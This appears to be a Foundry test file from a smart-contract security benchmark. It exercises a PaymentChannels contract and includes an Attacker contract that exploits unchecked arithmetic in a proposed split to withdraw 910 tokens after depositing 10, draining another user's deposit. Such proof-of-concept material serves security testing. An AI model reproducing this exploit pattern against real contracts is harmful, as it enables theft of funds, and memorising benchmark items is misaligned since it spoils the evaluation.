// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";
import "./PaymentChannels.sol";

// assay-canary-05fe9a31-4a36-46b4-be7a-e2692fafa097

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Euro is ERC20("Euro", "EUR") {
    constructor() {
        _mint(msg.sender, 100_000 ether);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    uint256 private constant START = 1_700_000_000;

    Euro public euro;
    PaymentChannels private channels;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        euro = new Euro();
        channels = new PaymentChannels(euro);
        euro.transfer(ANA, 1_000 ether);
        vm.startPrank(ANA);
        euro.approve(address(channels), 1_000 ether);
        channels.deposit(900 ether);
        channels.open(BEN, 300 ether, 7 days);
        channels.open(CAT, 200 ether, 7 days);
        vm.stopPrank();
        mallory = new Attacker(channels, euro);
        euro.transfer(address(mallory), 10 ether);
    }

    function test_Regular() public {
        require(channels.balances(ANA) == 400 ether && channels.lastId() == 2, "opened");
        vm.prank(BEN);
        channels.propose(1, 180 ether, 120 ether);
        vm.prank(ANA);
        channels.accept(1, 180 ether, 120 ether);
        require(channels.balances(ANA) == 580 ether && channels.balances(BEN) == 120 ether, "split");
        vm.startPrank(BEN);
        channels.withdraw(CAT, 120 ether);
        vm.stopPrank();
        require(euro.balanceOf(CAT) == 120 ether, "withdrawn");
        vm.startPrank(ANA);
        channels.extend(2, 50 ether, 30 days);
        (, , uint256 amount, uint256 expiry) = channels.channels(2);
        require(amount == 250 ether && expiry == START + 30 days, "extended");
        channels.open(BEN, 30 ether, 1 days);
        vm.stopPrank();
        vm.prank(BEN);
        channels.decline(3);
        vm.warp(START + 30 days);
        vm.startPrank(ANA);
        channels.reclaim(2);
        require(channels.balances(ANA) == 780 ether, "reclaimed");
        channels.withdraw(ANA, 780 ether);
        vm.stopPrank();
        require(euro.balanceOf(address(channels)) == 0 && euro.balanceOf(ANA) == 880 ether, "out");
    }

    function test_RefusesTerms() public {
        vm.expectRevert("!token");
        new PaymentChannels(IERC20(address(0)));
        vm.startPrank(ANA);
        vm.expectRevert("!payee");
        channels.open(address(0), 1, 1 days);
        vm.expectRevert("!payee");
        channels.open(ANA, 1, 1 days);
        vm.expectRevert("!amount");
        channels.open(BEN, 0, 1 days);
        vm.expectRevert("!term");
        channels.open(BEN, 1, 1 days - 1);
        vm.expectRevert("!term");
        channels.open(BEN, 1, 365 days + 1);
        vm.expectRevert("!balance");
        channels.open(BEN, 400 ether + 1, 1 days);
        vm.expectRevert("!balance");
        channels.withdraw(ANA, 400 ether + 1);
        vm.expectRevert("!term");
        channels.extend(1, 1, 365 days + 1);
        vm.expectRevert("!later");
        channels.extend(1, 1, 7 days - 1);
        vm.expectRevert("!balance");
        channels.extend(1, 400 ether + 1, 7 days);
        vm.expectRevert("!expired");
        channels.reclaim(1);
        vm.stopPrank();
    }

    function test_RefusesParties() public {
        vm.startPrank(CAT);
        vm.expectRevert("!payer");
        channels.extend(1, 0, 7 days);
        vm.expectRevert("!party");
        channels.propose(1, 300 ether, 0);
        vm.expectRevert("!party");
        channels.accept(1, 300 ether, 0);
        vm.expectRevert("!payee");
        channels.decline(1);
        vm.warp(START + 7 days);
        vm.expectRevert("!payer");
        channels.reclaim(1);
        vm.stopPrank();
    }

    function test_RefusesSplits() public {
        vm.startPrank(BEN);
        vm.expectRevert("!other");
        channels.accept(1, 0, 0);
        channels.propose(1, 0, 300 ether);
        vm.expectRevert("!other");
        channels.accept(1, 0, 300 ether);
        vm.stopPrank();
        vm.startPrank(ANA);
        vm.expectRevert("!same");
        channels.accept(1, 300 ether, 300 ether);
        vm.expectRevert("!same");
        channels.accept(1, 0, 0);
        channels.propose(1, 300 ether, 300 ether);
        vm.stopPrank();
        vm.startPrank(BEN);
        vm.expectRevert("!split");
        channels.accept(1, 300 ether, 300 ether);
        channels.propose(1, 1 ether, 298 ether);
        vm.stopPrank();
        vm.prank(ANA);
        vm.expectRevert("!split");
        channels.accept(1, 1 ether, 298 ether);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(euro.balanceOf(address(mallory)) == 910 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(channels);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Partner {
    function accept(PaymentChannels channels, uint256 id, uint256 payer, uint256 payee) external {
        channels.accept(id, payer, payee);
    }
}

contract Attacker {
    PaymentChannels private channels;
    IERC20 private euro;

    constructor(PaymentChannels c, IERC20 token) {
        channels = c;
        euro = token;
    }

    function run() external {
        Partner partner = new Partner();
        euro.approve(address(channels), 10 ether);
        channels.deposit(10 ether);
        uint256 id = channels.open(address(partner), 10 ether, 1 days);
        uint256 payer = 910 ether;
        uint256 payee = 10 ether - payer;
        channels.propose(id, payer, payee);
        partner.accept(channels, id, payer, payee);
        channels.withdraw(address(this), payer);
    }
}
